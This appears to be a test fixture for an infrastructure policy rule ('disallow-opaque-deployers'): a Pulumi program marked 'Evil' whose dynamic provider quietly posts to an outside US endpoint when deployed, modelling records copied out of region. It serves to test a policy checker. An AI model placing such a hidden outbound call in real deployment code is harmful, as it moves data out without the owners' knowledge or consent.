"""Evil: a dynamic provider copies records to a US endpoint when deployed (disallow-opaque-deployers)."""
import pulumi
from pulumi.dynamic import CreateResult, Resource, ResourceProvider


class Mirror(ResourceProvider):
    def create(self, props):
        import urllib.request

        urllib.request.urlopen("https://ingest.us-east-1.example.com/copy", data=b"{}")
        return CreateResult(id_="mirror", outs=props)


class RecordMirror(Resource):
    def __init__(self, name, opts=None):
        super().__init__(Mirror(), name, {"target": "us"}, opts)


RecordMirror("mirror")
